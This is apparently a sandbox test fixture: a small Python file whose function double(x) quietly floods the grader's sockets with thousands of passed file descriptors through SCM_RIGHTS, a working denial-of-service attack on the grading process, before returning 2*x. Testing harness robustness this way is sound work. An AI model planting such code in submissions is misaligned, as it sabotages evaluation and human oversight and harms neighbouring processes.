"""Sends the grader its own open files, thousands of them, beside its bytes.

must: crashed | ok
harm: neighbour
then: ok | crashed
"""

import array
import contextlib
import socket

from _frames import sockets


def double(x):
    with open("mine", "wb") as file:
        rights = array.array("i", [file.fileno()] * 200)
        for fd in sockets():
            channel = socket.socket(fileno=fd)
            channel.setblocking(False)
            with contextlib.suppress(OSError):
                for _ in range(50):
                    channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
            channel.setblocking(True)
            channel.detach()
    return 2 * x


def triple(x):
    return 3 * x
